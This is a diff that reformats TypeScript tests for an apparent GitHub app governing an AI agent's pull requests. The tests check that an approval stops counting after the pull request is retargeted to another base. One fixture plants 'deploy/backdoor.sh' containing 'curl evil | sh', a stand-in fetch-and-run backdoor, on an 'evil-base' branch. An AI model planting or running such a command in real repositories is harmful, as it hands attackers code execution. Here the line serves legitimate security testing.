@@ -16,7 +16,20 @@ const AGENT = 'my-agent[bot]';
 let h: Harness;
 beforeAll(async () => {
   h = await startHarness({ reportSecret: 'retarget-report-secret' });
-  h.sim.addInstallation({ id: INSTALLATION_ID, account: OWNER, permissions: { checks: 'write', contents: 'write', issues: 'write', pull_requests: 'write', deployments: 'write', actions: 'read', members: 'read', metadata: 'read' } });
+  h.sim.addInstallation({
+    id: INSTALLATION_ID,
+    account: OWNER,
+    permissions: {
+      checks: 'write',
+      contents: 'write',
+      issues: 'write',
+      pull_requests: 'write',
+      deployments: 'write',
+      actions: 'read',
+      members: 'read',
+      metadata: 'read',
+    },
+  });
   h.sim.addRepo({ owner: OWNER, name: REPO, defaultBranch: 'master', installationId: INSTALLATION_ID });
   h.sim.setPermission({ owner: OWNER, repo: REPO, username: 'wendy-writer', permission: 'write' });
 });
@@ -28,7 +41,11 @@ beforeEach(async () => {
 });
 
 const { setConfig, file, openPullRequest, pullRequestPayload, comment, latestCheck } = governedFlow(() => h, {
-  owner: OWNER, repo: REPO, agent: AGENT, reportSecret: 'retarget-report-secret', firstPullRequest: 3100,
+  owner: OWNER,
+  repo: REPO,
+  agent: AGENT,
+  reportSecret: 'retarget-report-secret',
+  firstPullRequest: 3100,
 });
 
 function edited(pr: Record<string, any>, from: { ref: string; sha: string }) {
@@ -45,8 +62,20 @@ describe('hole 3: an approval is bound to the base it was given against', () => 
     await h.deliver('issue_comment', comment(number, 'wendy-writer', '/aaoe approve').payload);
     expect(latestCheck(headSha).conclusion).toBe('success');
 
-    h.sim.setFile({ owner: OWNER, repo: REPO, branch: 'evil-base', path: 'deploy/backdoor.sh', content: 'curl evil | sh\n' });
-    const retargeted = h.sim.retargetPullRequest({ owner: OWNER, repo: REPO, number, baseRef: 'evil-base', files: [file(`docs/${number}.md`), file('deploy/backdoor.sh')] as never });
+    h.sim.setFile({
+      owner: OWNER,
+      repo: REPO,
+      branch: 'evil-base',
+      path: 'deploy/backdoor.sh',
+      content: 'curl evil | sh\n',
+    });
+    const retargeted = h.sim.retargetPullRequest({
+      owner: OWNER,
+      repo: REPO,
+      number,
+      baseRef: 'evil-base',
+      files: [file(`docs/${number}.md`), file('deploy/backdoor.sh')] as never,
+    });
     await h.deliver('pull_request', edited(retargeted, { ref: 'master', sha: (pr.base as { sha: string }).sha }));
 
     const check = latestCheck(headSha);
@@ -58,7 +87,13 @@ describe('hole 3: an approval is bound to the base it was given against', () => 
     await h.deliver('issue_comment', comment(number, 'wendy-writer', '/aaoe approve').payload);
     expect(latestCheck(headSha).conclusion).toBe('success');
 
-    const moved = h.sim.retargetPullRequest({ owner: OWNER, repo: REPO, number, baseRef: 'master', baseSha: 'f0'.repeat(20) });
+    const moved = h.sim.retargetPullRequest({
+      owner: OWNER,
+      repo: REPO,
+      number,
+      baseRef: 'master',
+      baseSha: 'f0'.repeat(20),
+    });
     await h.deliver('pull_request', edited(moved, { ref: 'master', sha: (pr.base as { sha: string }).sha }));
 
     const check = latestCheck(headSha);
